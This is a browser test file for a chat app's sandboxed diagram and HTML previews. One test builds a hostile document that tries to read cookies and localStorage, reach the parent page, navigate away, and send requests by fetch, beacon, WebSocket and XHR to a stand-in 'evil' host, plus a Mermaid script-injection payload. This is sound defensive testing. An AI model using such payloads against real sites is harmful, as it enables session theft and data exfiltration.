// Diagrams and previews: untrusted documents that reach nothing.

import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { FrameLocator, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { BrowserUser, withWholeBrowser } from "../browser.ts";
import { Server } from "../server.ts";
import { ServerFixture } from "../server-fixture.ts";

const DIAGRAMS = `A flow:

\`\`\`mermaid
flowchart LR
  A[Question] --> B{Tool?}
  B -->|yes| C[Run it]
  B -->|no| D[Answer]
  C --> D
\`\`\`

A sequence:

\`\`\`mermaid
sequenceDiagram
  participant P as Person
  participant T as Throughline
  P->>T: Ask
  T-->>P: Answer
\`\`\`

None:

\`\`\`mermaid
flowchart LR
  A --> --> B [
\`\`\`
`;
const CLOCK = `<!doctype html>
<html><head><style>body{font-family:sans-serif;padding:20px}h1{color:rebeccapurple}</style></head>
<body><h1>Counter</h1><p>Clicked <b id="n">0</b> times</p><button>Click</button>
<script>let n = 0; document.querySelector("button").onclick = () => { document.getElementById("n").textContent = ++n; };</script>
</body></html>`;
const CIRCLE = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 100"><circle cx="60" cy="50" r="40" fill="teal"/><rect x="110" y="15" width="70" height="70" fill="orange"/></svg>`;
const fenced = (language: string, text: string) => `\`\`\`${language}\n${text}\n\`\`\`\n`;

/** Requests to a server that no document may reach. */
const visits: string[] = [];
const outside = createServer((request, response) => {
  visits.push(request.url ?? "");
  response.end();
});
beforeAll(() => new Promise<void>((done) => outside.listen(0, "127.0.0.1", done)));
afterAll(() => new Promise((done) => outside.close(done)));
const evil = () => `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;

/** Attempts of an untrusted document, with their results in its own text. */
const attack = (host: string) => `<!doctype html><title>x</title>
<link rel=stylesheet href="${host}/style"><link rel=preload as=image href="${host}/preload"><link rel=prefetch href="${host}/prefetch">
<script src="${host}/script"></script><img src="${host}/image"><iframe src="${host}/frame"></iframe><object data="${host}/object"></object>
<form action="${host}/form" method=post><input name=a></form><style>@import url(${host}/import);body{background:url(${host}/background)}</style>
<p id=log></p><script>
const log = (name, value) => { document.getElementById("log").textContent += name + "=" + value + ";"; };
const tried = (name, act) => { try { log(name, act()); } catch (error) { log(name, "refused"); } };
tried("parent", () => parent.document.body.tagName);
tried("storage", () => localStorage.length);
tried("cookie", () => document.cookie);
tried("opener", () => parent.location.href);
tried("top", () => { top.location.href = "${host}/top"; return "went"; });
tried("origin", () => origin);
tried("popup", () => String(open("${host}/popup")));
tried("worker", () => { new Worker("${host}/worker"); return "begun"; });
tried("socket", () => { new WebSocket("${host.replace("http", "ws")}/socket"); return "begun"; });
tried("beacon", () => navigator.sendBeacon("${host}/beacon"));
document.forms[0].submit();
fetch("${host}/fetch").then(() => log("fetch", "went"), () => log("fetch", "refused"));
fetch("/v1/me").then(() => log("own", "went"), () => log("own", "refused"));
import("${host}/module").then(() => log("module", "went"), () => log("module", "refused"));
const request = new XMLHttpRequest(); request.onerror = () => log("xhr", "refused"); request.open("GET", "${host}/xhr"); request.send();
</script>`;
const leaving = (host: string) =>
  `<meta http-equiv=refresh content="0;url=${host}/refresh"><script>location.href = "${host}/location";</script><a href="${host}/link">x</a>`;
const diagramAttack = (host: string) => `flowchart LR
  A["<img src=${host}/label onerror=alert(1)>"] --> B["<script>parent.document.title='evil'</script>"]
  click A href "${host}/click" "x"
  click B call alert(1)
  style A fill:url(${host}/fill)
`;
const FOREVER = "<p>before</p><script>for (;;);</script>";

withWholeBrowser();
const fixture = ServerFixture.of(() =>
  Server.scripted([
    { when: { contains: "diagrams", step: 1 }, does: [{ say: DIAGRAMS }] },
    {
      when: { contains: "previews", step: 1 },
      does: [{ say: fenced("html", CLOCK) + fenced("svg", CIRCLE) }],
    },
    { when: { contains: "forever", step: 1 }, does: [{ say: fenced("html", FOREVER) }] },
    { does: [{ say: "Nothing." }] },
  ]),
);

/** The document in a frame of this kind. */
const documentIn = (page: Page, kind: string, at = 0): FrameLocator =>
  page.locator(`iframe[data-kind=${kind}]`).nth(at).contentFrame();

test("diagrams are drawn in frames, with the source one click away", async () => {
  for (const width of [1280, 390]) {
    const user = await fixture.user({ width, height: 1300 });
    const { page } = user;
    await user.send("diagrams");
    await user.settled();
    const answer = page.locator(".markdown").last();
    await answer.locator(".code-note").waitFor();
    await expect.poll(() => answer.locator(".code-note").innerText()).toContain("couldn't be drawn");
    await expect.poll(() => answer.locator("pre").innerText()).toContain("A --> -->");
    for (const at of [0, 1]) await documentIn(page, "diagram", at).locator("svg").waitFor();
    await expect.poll(() => answer.locator("iframe").count()).toBe(2);
    const sandbox = await answer
      .locator("iframe")
      .evaluateAll((all) => all.map((one) => one.getAttribute("sandbox")));
    expect(sandbox).toEqual(["allow-scripts", "allow-scripts"]);
    await expect
      .poll(() =>
        answer
          .locator("iframe")
          .nth(1)
          .evaluate((one) => one.clientHeight),
      )
      .toBeGreaterThan(170);
    for (const theme of ["light", "dark"] as const) {
      await user.inTheme(theme);
      for (const at of [0, 1]) await documentIn(page, "diagram", at).locator("svg").waitFor();
      expect(await user.violations()).toEqual([]);
      await user.picture(`diagrams-${width}-${theme}`);
    }
    await answer.getByRole("button", { name: "Diagram" }).first().click();
    await expect.poll(() => answer.locator("pre").first().innerText()).toContain("A[Question]");
    await expect.poll(() => answer.locator("iframe").count()).toBe(1);
  }
});

test("HTML and SVG are shown next to their code on demand", async () => {
  for (const width of [1280, 390]) {
    const user = await fixture.user({ width, height: 1300 });
    const { page } = user;
    await user.send("previews");
    await user.settled();
    const answer = page.locator(".markdown").last();
    await answer.getByRole("button", { name: "Preview" }).nth(1).waitFor();
    expect(await answer.locator("iframe").count()).toBe(0);
    for (const at of [0, 1]) await answer.getByRole("button", { name: "Preview" }).nth(at).click();
    const inner = documentIn(page, "html");
    await inner.getByRole("button", { name: "Click" }).click();
    await expect.poll(() => inner.locator("#n").innerText()).toBe("1");
    await documentIn(page, "svg").locator("circle").waitFor();
    await expect.poll(() => answer.locator("pre").count()).toBe(2);
    for (const theme of ["light", "dark"] as const) {
      await user.inTheme(theme);
      expect(await user.violations()).toEqual([]);
      await user.picture(`previews-${width}-${theme}`);
    }
  }
});

test("frame content reaches neither the page, its storage nor a network", async () => {
  const server = await fixture.ownServer(
    Server.scripted([
      { when: { contains: "document", step: 1 }, does: [{ say: fenced("html", attack(evil())) }] },
      { when: { contains: "leave", step: 1 }, does: [{ say: fenced("html", leaving(evil())) }] },
      { when: { contains: "diagram", step: 1 }, does: [{ say: fenced("mermaid", diagramAttack(evil())) }] },
      { does: [{ say: "Nothing." }] },
    ]),
  );
  // Violations are logged for every attempt, so this user is not of the fixture.
  const user = await BrowserUser.open();
  const { page } = user;
  page.on("dialog", () => visits.push("dialog"));
  await page.goto(`${server.url}/#token=${await server.key()}`);
  await user.send("document");
  await user.settled();
  await page.getByRole("button", { name: "Preview", exact: true }).click();
  const inner = documentIn(page, "html");
  const log = inner.locator("#log");
  for (const name of ["fetch", "own", "module", "xhr"])
    await expect.poll(() => log.innerText()).toContain(`${name}=refused`);
  // These were tried before the others.
  const results = await log.innerText();
  for (const name of ["parent", "storage", "cookie", "opener", "top"])
    expect(results).toContain(`${name}=refused`);
  expect(results).toContain("origin=null");
  expect(results).toContain("popup=null");

  await user.send("leave");
  await user.settled();
  await page.getByRole("button", { name: "Preview", exact: true }).last().click();
  // The page's policy refuses the navigation; the browser shows an error page instead.
  await expect
    .poll(
      () => page.frames().filter((one) => one !== page.mainFrame() && /^chrome-error/.test(one.url())).length,
    )
    .toBeGreaterThan(0);

  await user.send("draw a diagram");
  await user.settled();
  // Mermaid draws it without the harmful parts, or refuses it: then the page shows an error.
  await expect
    .poll(async () => {
      if ((await page.locator(".code-note").count()) > 0) return "refused";
      const frame = page.frames().find((one) => one.url().endsWith("/frames/diagram.html"));
      return (await frame?.evaluate(() => document.querySelector("#diagram svg") !== null).catch(() => false))
        ? "drawn"
        : "";
    })
    .not.toBe("");

  expect(page.url()).toMatch(new RegExp(`^${server.url}/`));
  expect(await page.title()).not.toContain("evil");
  expect(visits).toEqual([]);
  await user.close();
});

test("endless document leaves the page responsive, and is closed", async () => {
  const user = await fixture.user();
  const { page } = user;
  await user.send("forever");
  await user.settled();
  const preview = page.getByRole("button", { name: "Preview", exact: true });
  await preview.click();
  await page.locator("iframe[data-kind=html]").waitFor();
  await page.locator("textarea").first().fill("still here");
  await expect.poll(() => page.locator("textarea").first().inputValue()).toBe("still here");
  await preview.click();
  await expect.poll(() => page.locator("iframe").count()).toBe(0);
});

test("only frame documents can be framed, and they load nothing", async () => {
  for (const [path, policy, framing] of [
    [
      "/frames/preview.html",
      "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'",
      "SAMEORIGIN",
    ],
    [
      "/frames/diagram.html",
      "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'",
      "SAMEORIGIN",
    ],
    ["/", "default-src 'none'; script-src 'self'", "DENY"],
    ["/frames/nothing.html", "default-src 'none'; script-src 'self'", "DENY"],
  ] as const) {
    const { headers } = await fetch(fixture.server.url + path);
    expect(headers.get("content-security-policy")).toContain(policy);
    expect(headers.get("x-frame-options")).toBe(framing);
  }
});
